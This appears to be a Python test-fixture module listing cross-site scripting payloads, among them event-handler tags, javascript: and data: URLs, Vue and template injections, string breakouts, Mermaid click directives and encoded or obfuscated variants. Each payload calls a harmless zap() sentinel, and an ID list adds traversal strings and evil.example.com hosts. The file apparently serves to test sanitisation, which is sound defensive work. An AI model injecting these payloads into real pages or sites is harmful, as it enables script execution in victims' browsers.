"""Text that wants to be more than text: each calls `zap()` if a page takes it for markup or code.

Made for what the pages are built with: HTML, its attributes and addresses, JSON inside of a script,
templates of Vue, Mermaid, Markdown, and string literals of JavaScript.
"""

from typing import Final

# Run where somebody writes them into a page as HTML.
MARKUP: Final = (
    "<script>zap()</script>",
    "<ScRiPt>zap()</sCrIpT>",
    "<script/x>zap()</script>",
    "<script\n>zap()</script>",
    "<script src='data:text/javascript,zap()'></script>",
    "<script type=module>zap()</script>",
    "<img src=x onerror=zap()>",
    "<img src=x onerror='zap()'>",
    '<img src=x onerror="zap()">',
    "<img/src=x/onerror=zap()>",
    "<IMG SRC=x OnErRoR=zap()>",
    "<img src=x onerror=zap() //",
    "<img src=x\tonerror=zap()>",
    "<img src=x\nonerror=zap()>",
    "<img src=x onerror=&#122;&#97;&#112;()>",
    "<img src=x onerror=&#x7a;ap()>",
    "<img src=x onerror=eval('zap'+'()')>",
    "<img src=x onerror=window['za'+'p']()>",
    "<img src=x onerror=setTimeout('zap()')>",
    "<img srcset=x onerror=zap()>",
    "<picture><img src=x onerror=zap()></picture>",
    "<svg onload=zap()>",
    "<svg/onload=zap()>",
    "<svg><image href=x onerror=zap() /></svg>",
    "<svg><script>zap()</script></svg>",
    "<svg><animate onbegin=zap() attributeName=x dur=1s></svg>",
    "<svg><set onbegin=zap() attributeName=x to=y></svg>",
    "<math><mtext><img src=x onerror=zap()></mtext></math>",
    "<body onload=zap()>",
    "<input autofocus onfocus=zap()>",
    "<details open ontoggle=zap()><summary>x</summary></details>",
    "<video src=x onerror=zap()></video>",
    "<audio src=x onerror=zap()></audio>",
    "<video><source src=x onerror=zap()></video>",
    "<iframe srcdoc='<script>parent.zap()</script>'></iframe>",
    "<iframe src='javascript:parent.zap()'></iframe>",
    "<object data='javascript:zap()'></object>",
    "<embed src='javascript:zap()'>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=zap()>x</b>",
    "<link rel=stylesheet href=x onerror=zap()>",
    "<marquee onstart=zap()>x</marquee>",
    "<template><script>zap()</script></template><img src=x onerror=zap()>",
    "<noscript><p title='</noscript><img src=x onerror=zap()>'>",
    "<!--><img src=x onerror=zap()>-->",
    "</pre></div></span><img src=x onerror=zap()>",
    "</script><script>zap()</script>",
    "</textarea></title></style><img src=x onerror=zap()>",
    "<meta http-equiv=refresh content='0;url=javascript:zap()'>",
    "<base href='javascript:zap()//'>",
    "<form action='javascript:zap()'><button autofocus onfocus=zap()>x</button></form>",
)

# Run where they come into an address, a string of a script, or a template.
ELSEWHERE: Final = (
    "javascript:zap()",
    "JaVaScRiPt:zap()",
    " javascript:zap()",
    "java\tscript:zap()",
    "javascript://%0azap()",
    "data:text/html,<script>parent.zap()</script>",
    "vbscript:zap()",
    "<a href='javascript:zap()' autofocus>x</a>",
    "<a href=' &#106;avascript:zap()'>x</a>",
    "[x](javascript:zap())",
    "![x](x onerror=zap())",
    "{{zap()}}",
    "{{constructor.constructor('zap()')()}}",
    "{{$el.ownerDocument.defaultView.zap()}}",
    "<b v-on:click='zap()' v-html='\"x\"' :title='zap()'>x</b>",
    "<component is=script>zap()</component>",
    "${zap()}",
    "`${zap()}`",
    "';zap();//",
    '";zap();//',
    "\\';zap();//",
    "'-zap()-'",
    '"-zap()-"',
    "');zap();('",
    "\u2028zap()\u2029",
    "*/zap();/*",
    "--></script><script>zap()</script><!--",
    '"]; click n0 call zap() "x',
    'n0 --> n1\n  click n0 href "javascript:zap()"',
    "%%{init: {'securityLevel': 'loose'}}%%",
    '" onmouseover="zap()" x="',
    "' onfocus='zap()' autofocus='",
    "\x1b]8;;javascript:zap()\x07x\x1b]8;;\x07",
    "\u202e)(paz:tpircsavaj",
    "&lt;script&gt;zap()&lt;/script&gt;",
    "%3Cscript%3Ezap()%3C/script%3E",
    "+ADw-script+AD4-zap()+ADw-/script+AD4-",
)

# What runs by itself, and how it may be said: quoted, encoded, by another name, in two steps.
_STARTERS: Final = (
    "<img src=x onerror={}>", "<svg onload={}></svg>", "<input autofocus onfocus={}>",
    "<video src=x onerror={}></video>", "<audio src=x onerror={}></audio>",
    "<details open ontoggle={}></details>", "<iframe onload={}></iframe>",
    "<style onload={}></style>", "<script src=data:x onerror={}></script>",
    "</b><img src=data:x onerror={} alt=",
)  # fmt: skip
_CALLS: Final = (
    "zap`1`", "top.zap()", "self['zap']()", "(0,zap)()", "zap.call()", "zap?.()", "void&#x20;zap()",
    "&#x7A;&#x61;&#x70;&#x28;&#x29;", "\"zap()\"", "'zap()'", "[1].map(zap)", "new&#32;zap",
)  # fmt: skip
SPUN: Final = tuple(starter.format(call) for starter in _STARTERS for call in _CALLS)

PAYLOADS: Final = tuple(dict.fromkeys((*MARKUP, *ELSEWHERE, *SPUN)))

# What fits where ids are: letters, digits and some signs, but also words that addresses begin with.
IDS: Final = (
    "javascript:zap", "data:text/html", "vbscript:zap", "//evil.example.com/x", "..", "../../x",
    "a/../../../b", "https://evil.example.com", "=zap", "@zap", "+zap",
)  # fmt: skip
